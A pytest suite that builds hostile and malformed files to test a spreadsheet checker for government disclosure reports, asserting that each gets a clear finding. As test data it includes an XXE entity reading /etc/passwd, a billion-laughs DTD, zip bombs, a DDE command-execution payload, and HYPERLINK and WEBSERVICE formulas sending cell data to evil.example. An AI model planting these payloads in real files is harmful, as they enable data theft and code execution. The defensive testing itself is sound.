"""``zfxxgk check`` against hostile and malformed files: every one gets a clear finding, never a traceback.

The corpus is built at run time (no binary fixtures): Office files of the wrong kind (made by
LibreOffice, msoffcrypto-tool and python-docx), text and image files renamed ``.xlsx``, zip
archives of every shape, decompression bombs, damaged packages, XML entity attacks, and templates
with hostile contents. Each case states exactly the finding codes it must produce (and no others)
and the CLI's exit code (2: unreadable, 1: read but with errors, 0: clean); the library, the human
CLI output and the JSON output are all checked, and no checked file may change.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result
from docx import Document
from msoffcrypto.format.ooxml import OOXMLFile

from helpers import fill_with_openpyxl, sha256
from zfxxgk.check.file import check_file
from zfxxgk.cli import main
from zfxxgk.libreoffice import convert, soffice
from zfxxgk.read.intake import MAX_ENTRIES, MAX_FILE_BYTES, RATIO_FLOOR
from zfxxgk.read.package import Package
from zfxxgk.read.workbook import read_meta
from zfxxgk.roster import Agency
from zfxxgk.spec import META_SHEET, Spec, load_spec
from zfxxgk.template.writer import build_template

SPEC: Spec = load_spec("national-2021")
YEAR = 2025
SHEET3 = "xl/worksheets/sheet3.xml"

# A scaled-down billion laughs (10**6 "lol"s, 3 MB): the shape of the attack, but harmless should a
# regression ever let a parser expand it.
LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (k, (b"&lol%d;" % (k - 1) if k > 1 else b"&lol;") * 10) for k in range(1, 7))
    + b"]>"
)
XXE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
AT_SUM = "@SUM(1)"
DDE = '+cmd|" /C calc"!A0'
LONG_TEXT = "长" * 10_000


# --------------------------------------------------------------------------- building files


PROBLEMS = "一是公开内容不够全面；二是解读形式单一。下一步将加强培训，提升公开质量。"


def clean_fill(spec: Spec) -> dict[str, object]:
    """A complete, consistent return: every count 0, every text section 无 (五 names a problem and a measure)."""
    fill = {c.id: ("无" if c.domain.kind == "text" else 0) for c in spec.input_cells if not c.id.startswith("info.")}
    return fill | ({"text.problems.body": PROBLEMS} if "text.problems.body" in fill else {})


def rezip(
    data: bytes,
    edit: Callable[[str, bytes], bytes | None] = lambda _name, body: body,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """Rewrite a zip: ``edit`` may change or (returning None) drop each entry; ``extra`` adds entries."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = edit(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def edit_part(part: str, change: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes | None]:
    def edit(name: str, body: bytes) -> bytes:
        return change(body) if name == part else body

    return edit


def with_dtd(body: bytes, dtd: bytes) -> bytes:
    """Put a DOCTYPE right after the XML declaration (or at the very start)."""
    if body.startswith(b"<?xml"):
        end = body.index(b"?>") + 2
        return body[:end] + dtd + body[end:]
    return dtd + body


def sub_once(pattern: bytes, repl: bytes, body: bytes) -> bytes:
    new, n = re.subn(pattern, repl, body, count=1)
    assert n == 1, f"pattern {pattern!r} not found"
    return new


def zip_of(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, body in entries.items():
            zf.writestr(name, body)
    return out.getvalue()


def plain_workbook(rows: list[list[Any]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def flip_compressed_bytes(data: bytes, part: str) -> bytes:
    """Damage one entry's deflate stream so that inflating it fails, leaving the zip directory intact."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(part)
    assert info.compress_type == zipfile.ZIP_DEFLATED and info.compress_size > 64
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26 : info.header_offset + 30])
    start = info.header_offset + 30 + name_len + extra_len
    for middle in range(start + info.compress_size // 2, start + info.compress_size - 16):
        damaged = bytearray(data)
        for k in range(16):
            damaged[middle + k] ^= 0xFF
        try:
            zlib.decompressobj(-15).decompress(bytes(damaged[start : start + info.compress_size]))
        except zlib.error:
            return bytes(damaged)  # a broken stream, not merely a wrong CRC
    raise AssertionError(f"could not break the deflate stream of {part}")


class Corpus:
    """Builds each case's file once per session, and the source files they are made from."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self._built: dict[str, Path] = {}
        self._lo: dict[str, Path] = {}
        self.template = build_template(SPEC, YEAR, Agency(name="测试县测试局", code="T001"), prefill=clean_fill(SPEC))

    def template_path(self) -> Path:
        path = self.root / "_src" / "report.xlsx"
        if not path.exists():
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(self.template)
        return path

    def libreoffice(self, fmt: str) -> bytes:
        """The clean template converted by LibreOffice (one conversion per format and session)."""
        if fmt not in self._lo:
            if soffice() is None:
                pytest.skip("LibreOffice (soffice) is not installed")
            (self._lo[fmt],) = convert([self.template_path()], fmt, self.root / "_lo" / fmt)
        return self._lo[fmt].read_bytes()

    def path(self, case: Case) -> Path:
        if case.id not in self._built:
            folder = self.root / case.id
            folder.mkdir(exist_ok=True)
            path = folder / case.filename
            case.build(self, path)
            self._built[case.id] = path
        return self._built[case.id]


# --------------------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    build: Callable[[Corpus, Path], None]
    codes: tuple[str, ...]  # finding codes that must all be reported
    exit: int  # 2 unreadable, 1 errors, 0 clean
    fragment: str = ""  # text that must appear in the message or fix of one of those findings
    args: tuple[str, ...] = ()  # extra arguments of ``zfxxgk check``
    libreoffice: bool = False

    @property
    def year(self) -> int | None:
        return int(self.args[self.args.index("--year") + 1]) if "--year" in self.args else None


def write(data: bytes | Callable[[Corpus], bytes]) -> Callable[[Corpus, Path], None]:
    def build(corpus: Corpus, path: Path) -> None:
        path.write_bytes(data(corpus) if callable(data) else data)

    return build


def nothing(corpus: Corpus, path: Path) -> None:
    del corpus, path


def directory(corpus: Corpus, path: Path) -> None:
    path.mkdir()
    (path / "inside.xlsx").write_bytes(corpus.template)


def huge(corpus: Corpus, path: Path) -> None:
    """A sparse file just over the size limit that starts like a real workbook."""
    with path.open("wb") as fh:
        fh.write(corpus.template)
        fh.truncate(MAX_FILE_BYTES + 1024 * 1024)


def encrypted(corpus: Corpus) -> bytes:
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(corpus.template)).encrypt("pw", out)
    return out.getvalue()


def renamed_ole_streams(corpus: Corpus) -> bytes:
    """An OLE file that is no Office document: the .xls with its Workbook stream renamed."""
    data = corpus.libreoffice("xls")
    name = "Workbook".encode("utf-16-le")
    assert data.count(name) == 1
    return data.replace(name, "Wxrkbook".encode("utf-16-le"))


def docx_bytes(corpus: Corpus) -> bytes:
    doc = Document()
    doc.add_heading("测试局2025年政府信息公开工作年度报告", 1)
    doc.add_paragraph("一、总体情况")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def injected(corpus: Corpus, path: Path) -> None:
    """Hostile text typed into input cells of the template, as a script or a paste would."""
    src = corpus.template_path()
    fill_with_openpyxl(src, INJECTED, path)


def real_formulas(corpus: Corpus, path: Path) -> None:
    """Formulas (not text) typed into input cells; openpyxl stores no result, so nothing can be read."""
    _, positions = read_meta(Package(corpus.template))
    wb = openpyxl.load_workbook(io.BytesIO(corpus.template))
    for cell_id, formula in FORMULAS.items():
        sheet, a1 = positions[cell_id]
        wb[sheet][a1] = formula
    wb.save(path)


def spec_unknown(corpus: Corpus, path: Path) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(corpus.template))
    ws = wb[META_SHEET]
    row = next(r for r in ws.iter_rows(min_row=1, max_row=20) if r[0].value == "spec_id")
    row[1].value = "no-such-spec"
    wb.save(path)


def meta_sheet_part(corpus: Corpus) -> str:
    info = Package(corpus.template).sheet(META_SHEET)
    assert info is not None
    return info.part


def no_sheets(corpus: Corpus) -> bytes:
    data = plain_workbook([["与年报无关"]])
    return rezip(data, edit_part("xl/workbook.xml", lambda b: sub_once(rb"<sheets>.*</sheets>", b"<sheets/>", b)))


def csv_text(encoding: str) -> bytes:
    return "单位名称,年度,收到申请数\n测试县测试局,2025,12\n".encode(encoding)


INTS = [c.id for c in SPEC.input_cells if c.domain.kind == "integer"]
INJECTED: dict[str, object] = {INTS[0]: HYPERLINK, INTS[1]: AT_SUM, INTS[2]: DDE, INTS[3]: LONG_TEXT}
FORMULAS = {INTS[4]: '=WEBSERVICE("http://evil.example/?d="&A1)', INTS[5]: HYPERLINK}

HTML = (
    '<html><head><meta charset="utf-8"><title>年报</title></head><body><table>'
    "<tr><td>信息内容</td><td>本年制发件数</td></tr><tr><td>规章</td><td>3</td></tr></table></body></html>"
).encode()
XML2003 = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<?mso-application progid="Excel.Sheet"?>\n'
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
    'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
    '<Worksheet ss:Name="Sheet1"><Table><Row><Cell><Data ss:Type="String">规章</Data></Cell></Row></Table>'
    "</Worksheet></Workbook>"
).encode()
RANDOM = b"\x00\x13" + random.Random(20250101).randbytes(8190)

C = Case
CASES: list[Case] = [
    # ---- nothing to read
    C("empty", "空.xlsx", write(b""), ("file-empty",), 2, "0 字节"),
    C("missing", "不存在.xlsx", nothing, ("file-missing",), 2, "路径"),
    C("directory", "文件夹.xlsx", directory, ("file-unreadable",), 2),
    C("too-large", "huge.xlsx", huge, ("file-too-large",), 2, "MB"),
    # ---- other Office formats, identified by content whatever the name
    C("xls", "report.xls", write(lambda c: c.libreoffice("xls")), ("file-xls",), 2, "另存为", libreoffice=True),
    C(
        "xls-as-xlsx",
        "report.xlsx",
        write(lambda c: c.libreoffice("xls")),
        ("file-xls",),
        2,
        "另存为",
        libreoffice=True,
    ),
    C("xls-as-et", "report.et", write(lambda c: c.libreoffice("xls")), ("file-et",), 2, "WPS", libreoffice=True),
    C("ods-as-xlsx", "report.xlsx", write(lambda c: c.libreoffice("ods")), ("file-ods",), 2, ".ods", libreoffice=True),
    C("ole-other", "report.xlsx", write(renamed_ole_streams), ("file-ole",), 2, "OLE", libreoffice=True),
    C("ole-garbage", "report.xls", write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + RANDOM), ("file-corrupt",), 2, "OLE"),
    C("encrypted", "加密.xlsx", write(encrypted), ("file-encrypted",), 2, "取消打开密码"),
    C("encrypted-as-et", "加密.et", write(encrypted), ("file-encrypted",), 2, "密码"),
    C("docx-as-xlsx", "报告.xlsx", write(docx_bytes), ("file-docx",), 2, "Word"),
    # ---- text renamed
    C("csv-utf8", "data.xlsx", write(csv_text("utf-8")), ("file-text",), 2, "CSV"),
    C("csv-utf8-bom", "data.xlsx", write(b"\xef\xbb\xbf" + csv_text("utf-8")), ("file-text",), 2, "CSV"),
    C("csv-gbk", "data.xlsx", write(csv_text("gbk")), ("file-text",), 2, "CSV"),
    C("text-utf16", "data.xlsx", write("年度报告\r\n无\r\n".encode("utf-16")), ("file-text",), 2, "纯文本"),
    C("html-as-xls", "网页导出.xls", write(HTML), ("file-text",), 2, "HTML"),
    C("xml-2003", "report.xml.xlsx", write(XML2003), ("file-text",), 2, "XML 表格"),
    # ---- other binary formats
    C("pdf", "report.xlsx", write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"), ("file-other",), 2, "PDF"),
    C("png", "scan.xlsx", write(b"\x89PNG\r\n\x1a\n" + RANDOM[:200]), ("file-other",), 2, "PNG"),
    C("gif", "scan.xlsx", write(b"GIF89a" + RANDOM[:200]), ("file-other",), 2, "GIF"),
    C("jpeg", "scan.xlsx", write(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + RANDOM[:200]), ("file-other",), 2, "JPEG"),
    C("gzip", "report.xlsx.gz", write(lambda c: gzip.compress(c.template)), ("file-other",), 2, "gzip"),
    C("rar", "report.rar", write(b"Rar!\x1a\x07\x01\x00" + RANDOM[:200]), ("file-other",), 2, "RAR"),
    C("random-binary", "report.xlsx", write(RANDOM), ("file-other",), 2, "二进制"),
    # ---- zip archives that are not workbooks
    C(
        "zip-of-xlsx",
        "全县报表.zip",
        write(lambda c: zip_of({"甲局.xlsx": c.template, "乙局.xlsx": c.template, "丙局.xlsx": c.template})),
        ("file-zip",),
        2,
        "解压",
    ),
    C("zip-of-text", "report.xlsx", write(zip_of({"a.txt": b"hello", "b.txt": "你好".encode()})), ("file-zip",), 2),
    C("zip-empty", "report.xlsx", write(zip_of({})), ("file-zip",), 2),
    C(
        "xlsb",
        "report.xlsx",
        write(
            zip_of(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/workbook.bin": b"\x83\x01\x00",
                    "xl/worksheets/sheet1.bin": b"",
                }
            )
        ),
        ("file-other",),
        2,
        "xlsb",
    ),
    C(
        "odt",
        "report.xlsx",
        write(
            zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}, zipfile.ZIP_STORED)
        ),
        ("file-other",),
        2,
        "OpenDocument",
    ),
    C(
        "pptx",
        "report.xlsx",
        write(zip_of({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"})),
        ("file-other",),
        2,
        "PowerPoint",
    ),
    # ---- decompression bombs
    C(
        "zip-bomb-ratio",
        "report.xlsx",
        write(lambda c: rezip(c.template, extra={"xl/media/image1.png": b"\0" * (4 * RATIO_FLOOR)})),
        ("file-too-large",),
        2,
        ":1",
    ),
    C(
        "zip-too-many-entries",
        "report.xlsx",
        write(lambda c: rezip(c.template, extra={f"xl/media/p{k}.bin": b"" for k in range(MAX_ENTRIES + 1)})),
        ("file-too-large",),
        2,
        "entries",
    ),
    # ---- damaged packages
    C("not-a-zip", "report.xlsx", write(b"PK\x03\x04" + RANDOM[:500]), ("file-corrupt",), 2, "截断"),
    C("truncated", "report.xlsx", write(lambda c: c.template[: len(c.template) // 2]), ("file-corrupt",), 2, "截断"),
    C("damaged-entry", "report.xlsx", write(lambda c: flip_compressed_bytes(c.template, SHEET3)), ("file-corrupt",), 2),
    C(
        "damaged-workbook-xml",
        "report.xlsx",
        write(lambda c: flip_compressed_bytes(c.template, "xl/workbook.xml")),
        ("file-corrupt",),
        2,
        "workbook.xml",
    ),
    C(
        "damaged-shared-strings",
        "report.xlsx",
        write(lambda c: flip_compressed_bytes(c.template, "xl/sharedStrings.xml")),
        ("file-corrupt",),
        2,
    ),
    C(
        "no-workbook-xml",
        "report.xlsx",
        write(lambda c: rezip(c.template, lambda name, body: None if name == "xl/workbook.xml" else body)),
        ("file-corrupt",),
        2,
        "重新",
    ),
    C(
        "workbook-xml-not-xml",
        "report.xlsx",
        write(lambda c: rezip(c.template, edit_part("xl/workbook.xml", lambda b: b[: len(b) // 2]))),
        ("file-corrupt",),
        2,
        "XML",
    ),
    # ---- XML entity attacks
    C(
        "laughs-workbook-xml",
        "report.xlsx",
        write(
            lambda c: rezip(
                c.template,
                edit_part(
                    "xl/workbook.xml",
                    lambda b: sub_once(rb"<workbookPr ", b'<workbookPr codeName="&lol6;" ', with_dtd(b, LAUGHS)),
                ),
            )
        ),
        ("file-unsafe-xml",),
        2,
        "DTD",
    ),
    C(
        "laughs-sheet-xml",
        "report.xlsx",
        write(
            lambda c: rezip(
                c.template,
                edit_part(
                    SHEET3,
                    lambda b: sub_once(
                        rb"</sheetData>",
                        b'<row r="999"><c r="A999" t="inlineStr"><is><t>&lol6;</t></is></c></row></sheetData>',
                        with_dtd(b, LAUGHS),
                    ),
                ),
            )
        ),
        ("file-unsafe-xml",),
        2,
        "sheet3.xml",
    ),
    C(
        "xxe-workbook-xml",
        "report.xlsx",
        write(
            lambda c: rezip(
                c.template,
                edit_part(
                    "xl/workbook.xml",
                    lambda b: sub_once(rb"<workbookPr ", b'<workbookPr codeName="&xxe;" ', with_dtd(b, XXE)),
                ),
            )
        ),
        ("file-unsafe-xml",),
        2,
        "不安全",
    ),
    C(
        "xxe-workbook-rels",
        "report.xlsx",
        write(
            lambda c: rezip(
                c.template,
                edit_part(
                    "xl/_rels/workbook.xml.rels",
                    lambda b: sub_once(
                        rb"</Relationships>",
                        b'<Relationship Id="rId99" Type="x" Target="&xxe;"/></Relationships>',
                        with_dtd(b, XXE),
                    ),
                ),
            )
        ),
        ("file-unsafe-xml",),
        2,
    ),
    C(
        "laughs-shared-strings",
        "report.xlsx",
        write(
            lambda c: rezip(
                c.template,
                edit_part(
                    "xl/sharedStrings.xml",
                    lambda b: sub_once(rb"<t>([^<]*)</t>", rb"<t>\1&lol6;</t>", with_dtd(b, LAUGHS)),
                ),
            )
        ),
        ("file-unsafe-xml",),
        2,
    ),
    C(
        "dtd-meta-sheet",
        "report.xlsx",
        write(lambda c: rezip(c.template, edit_part(meta_sheet_part(c), lambda b: with_dtd(b, XXE)))),
        ("file-unsafe-xml",),
        2,
    ),
    C(
        "xxe-label-sheet",
        "report.xlsx",
        write(
            lambda _c: rezip(
                plain_workbook([["一、总体情况"], ["body"]]),
                edit_part(
                    "xl/worksheets/sheet1.xml",
                    lambda b: sub_once(b"<t>body</t>", b"<t>&xxe;</t>", with_dtd(b, XXE)),
                ),
            )
        ),
        ("file-unsafe-xml",),
        2,
    ),
    # ---- readable workbooks with problems
    C(
        "macros",
        "report.xlsm",
        write(
            lambda c: rezip(c.template, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + RANDOM[:500]})
        ),
        ("file-macros",),
        0,
        "宏",
    ),
    C(
        "unrelated-workbook",
        "report.xlsx",
        write(plain_workbook([["姓名", "电话"], ["张三", "12345"]])),
        ("tables-not-found",),
        1,
        "Sheet",
    ),
    C("no-sheets", "report.xlsx", write(no_sheets), ("tables-not-found",), 1, "无工作表"),
    # openpyxl saved it, dropping the totals' stored results: read by labels, the totals are blank.
    C("spec-unknown", "report.xlsx", spec_unknown, ("spec-unknown", "read-by-labels", "blank-cell"), 1, "no-such-spec"),
    C("injected-cells", "report.xlsx", injected, ("not-a-number",), 1, AT_SUM),
    C("formulas-in-inputs", "report.xlsx", real_formulas, ("input-formula-unreadable",), 1, "WEBSERVICE"),
    C("year-mismatch", "report.xlsx", write(lambda c: c.template), ("year-mismatch",), 1, "2024", ("--year", "2024")),
    # ---- clean files under awkward names
    C("clean", "report.xlsx", write(lambda c: c.template), (), 0),
    C("clean-right-year", "report.xlsx", write(lambda c: c.template), (), 0, "", ("--year", str(YEAR))),
    C("chinese-name", "测试县 “某局” 'a' \"b\" 年报.xlsx", write(lambda c: c.template), (), 0),
    C("upper-case-ext", "REPORT.XLSX", write(lambda c: c.template), (), 0),
]

PARAMS = [pytest.param(c, id=c.id, marks=[pytest.mark.libreoffice] if c.libreoffice else []) for c in CASES]


def test_the_corpus_is_large_and_distinct() -> None:
    ids = [c.id for c in CASES]
    assert len(ids) == len(set(ids)) and len(ids) >= 30


# --------------------------------------------------------------------------- fixtures and runners


@pytest.fixture(scope="session")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    return Corpus(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def case_path(request: pytest.FixtureRequest, corpus: Corpus) -> Iterator[tuple[Case, Path]]:
    case: Case = request.param
    path = corpus.path(case)
    before = _state(path)
    yield case, path
    assert _state(path) == before, "checking must not change, add or remove any file"


def _state(path: Path) -> tuple[str, list[str]]:
    """The file's sha256 and what its folder holds."""
    digest = sha256(path) if path.is_file() and path.stat().st_size <= MAX_FILE_BYTES else ""
    return digest, sorted(p.name for p in path.parent.iterdir())


def run_check(*args: str) -> Result:
    result = CliRunner().invoke(main, ["check", *args], env={"ZFXXGK_LANG": "zh"})
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


# --------------------------------------------------------------------------- the tests


@pytest.mark.parametrize("case_path", PARAMS, indirect=True)
def test_check_file(case_path: tuple[Case, Path]) -> None:
    case, path = case_path
    r = check_file(path, year=case.year)
    codes = [f.code for f in r.findings]
    assert set(codes) == set(case.codes), codes  # exactly the findings the case states, no others
    assert r.readable == (case.exit != 2)
    assert r.status == {2: "unreadable", 1: "errors", 0: "warnings" if r.findings else "ok"}[case.exit]
    if case.exit == 0:
        assert not [f for f in r.findings if f.severity == "error"]
    if case.fragment:
        texts = [f.message + f.fix for f in r.findings if f.code in case.codes]
        assert any(case.fragment in t for t in texts), texts
    for f in r.findings:
        assert f.message and f.fix and f.file == str(path)


@pytest.mark.parametrize("case_path", PARAMS, indirect=True)
def test_cli_exit_code(case_path: tuple[Case, Path]) -> None:
    case, path = case_path
    result = run_check(str(path), *case.args)
    assert result.exit_code == case.exit, result.output
    if case.fragment:
        assert case.fragment in result.output


@pytest.mark.parametrize("case_path", PARAMS, indirect=True)
def test_cli_json(case_path: tuple[Case, Path]) -> None:
    case, path = case_path
    result = run_check(str(path), "--json", *case.args)
    assert result.exit_code == case.exit
    doc = json.loads(result.stdout)
    assert doc["exit_code"] == case.exit and len(doc["files"]) == 1
    file = doc["files"][0]
    assert file["file"] == str(path)
    codes = [f["code"] for f in file["findings"]]
    assert set(codes) == set(case.codes), codes  # exactly the findings the case states, no others
    clean = "warnings" if any(f["severity"] == "warning" for f in file["findings"]) else "ok"
    assert file["status"] == ("unreadable" if case.exit == 2 else "errors" if case.exit == 1 else clean)
    if path.is_file() and path.stat().st_size <= MAX_FILE_BYTES:
        assert file["sha256"] == sha256(path)


# --------------------------------------------------------------------------- particular cases


def _json_findings(path: Path, *args: str) -> list[dict[str, Any]]:
    doc = json.loads(run_check(str(path), "--json", *args).stdout)
    return list(doc["files"][0]["findings"])


@pytest.mark.parametrize("case_path", [c for c in PARAMS if c.id == "injected-cells"], indirect=True)
def test_injected_text_is_reported_literally(case_path: tuple[Case, Path]) -> None:
    """Formula-like strings and a 10,000-character value are values to report, never formulas to run."""
    _, path = case_path
    by_cell = {f["cell_id"]: f for f in _json_findings(path) if f["code"] == "not-a-number"}
    assert set(by_cell) == set(INJECTED)
    for cell_id, text in INJECTED.items():
        f = by_cell[cell_id]
        assert f["actual"] == text  # the literal text, not an evaluated result
        assert str(text) in f["message"]
        assert f["severity"] == "error" and f["sheet"] and f["cell"]
    r = check_file(path)
    assert r.readable and r.ret is not None and r.ret.source == "template"
    assert all(r.ret.cells[c].formula is None for c in INJECTED)  # typed as text, read as text


@pytest.mark.parametrize("case_path", [c for c in PARAMS if c.id == "formulas-in-inputs"], indirect=True)
def test_formulas_in_inputs_are_never_evaluated(case_path: tuple[Case, Path]) -> None:
    """A formula without a stored result is reported by its text; the checker computes nothing from it."""
    _, path = case_path
    by_cell = {f["cell_id"]: f for f in _json_findings(path) if f["code"] == "input-formula-unreadable"}
    assert set(by_cell) == set(FORMULAS)
    for cell_id, formula in FORMULAS.items():
        assert by_cell[cell_id]["actual"] is None
        assert formula.lstrip("=") in by_cell[cell_id]["message"]
    r = check_file(path)
    assert all(r.values[c] is None for c in FORMULAS)


@pytest.mark.parametrize("case_path", [c for c in PARAMS if c.id == "spec-unknown"], indirect=True)
def test_unknown_spec_falls_back_to_labels(case_path: tuple[Case, Path]) -> None:
    _, path = case_path
    r = check_file(path)
    assert r.readable and r.ret is not None and r.ret.source == "labels"
    assert r.ret.parts and r.values
    unknown = next(f for f in r.findings if f.code == "spec-unknown")
    assert unknown.severity == "error" and "no-such-spec" in unknown.message


@pytest.mark.parametrize("case_path", [c for c in PARAMS if c.id == "macros"], indirect=True)
def test_macros_warn_but_the_workbook_is_read(case_path: tuple[Case, Path]) -> None:
    _, path = case_path
    r = check_file(path)
    assert r.intake.kind == "xlsm" and r.readable and r.status == "warnings"
    assert r.ret is not None and r.ret.source == "template" and r.agency == "测试县测试局"
    assert [f.code for f in r.findings] == ["file-macros"]
    assert r.findings[0].severity == "warning"


def test_one_bad_file_among_good_ones(corpus: Corpus) -> None:
    """Several files at once: each gets its own answer, and an unreadable one makes the exit code 2."""
    paths = [corpus.path(c) for c in CASES if c.id in ("clean", "empty", "missing", "unrelated-workbook")]
    before = [sha256(p) for p in paths if p.is_file()]
    result = run_check(*map(str, paths), "--json")
    assert result.exit_code == 2
    doc = json.loads(result.stdout)
    status = {Path(f["file"]).parent.name: f["status"] for f in doc["files"]}
    assert status == {"clean": "ok", "empty": "unreadable", "missing": "unreadable", "unrelated-workbook": "errors"}
    assert [sha256(p) for p in paths if p.is_file()] == before
    human = run_check(*map(str, paths))
    assert human.exit_code == 2 and "共检查 4 个文件" in human.output
